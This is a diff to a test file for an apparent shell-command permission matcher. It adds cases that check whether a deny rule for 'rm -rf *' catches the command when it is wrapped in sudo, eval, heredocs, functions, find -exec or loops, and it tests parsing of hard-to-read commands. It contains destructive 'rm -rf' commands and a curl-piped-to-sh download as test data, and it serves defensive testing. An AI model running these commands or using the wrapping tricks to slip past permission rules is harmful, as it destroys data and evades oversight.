@@ -31,12 +31,43 @@ test.each([
   ["rm -rf *", "find . | xargs rm -rf x", true],
   ["rm -rf *", "echo 'unfinished; rm -rf x", true],
   ["rm -rf *", "echo $(rm -rf x", true],
+  ["rm -rf *", "timeout -k 5 10 rm -rf x", true],
+  ["rm -rf *", "sudo sudo sudo env A=1 nice -n 5 rm -rf x", true],
+  ["rm -rf *", "find . -name x -exec rm -rf {} ;", true],
+  ["rm -rf *", "eval 'rm -rf x'", true],
+  ["rm -rf *", "cat <<E\n$(rm -rf x)\nE", true],
+  ["rm -rf *", "cat <<'E'\n$(rm -rf x)\nE", false],
+  ["rm -rf *", "f() { rm -rf x; }; f", true],
+  ["rm -rf *", "case a in a) rm -rf x;; esac", true],
+  ["rm -rf *", "diff <(rm -rf x) y", true],
+  ["rm -rf *", "x=$(rm -rf y)", true],
+  ["rm -rf *", "for f in *; do rm -rf $f; done", true],
   ["curl * | sh", "curl https://x.test/i.sh | sh", true],
   ["curl * | sh", "curl https://x.test/i.sh > i.sh", false],
   ["npm *", "npm test", true],
   ["npm *", "pnpm test", false],
 ])("%j on %j is %j", (glob, command, expected) => {
   expect(matches(glob, command)).toBe(expected);
+});
+
+test.each([
+  ["$CMD -rf x", false],
+  ["a{b,c} x", false],
+  ['"$(cat program)" x', false],
+  ['bash -c "$SCRIPT"', false],
+  ['eval "$X"', false],
+  ["echo 'unfinished", false],
+  ["if true; then ls", false],
+  [`echo ${"a".repeat(9_000)}`, false],
+  ['npm test -- --grep "$NAME" > out.txt 2>&1', true],
+  ["git log --format='%h %s' | head -n 5", true],
+  ['for f in *.ts; do wc -l "$f"; done', true],
+])("%j is readable: %j", (command, readable) => {
+  expect(commandParts(command).readable).toBe(readable);
+});
+
+test("many starters in a row cost no more than their number", () => {
+  expect(commandParts(`${"sudo ".repeat(500)}rm -rf x`).parts.length).toBeLessThan(2_000);
 });
 
 test("an exception spares only the part it names", () => {
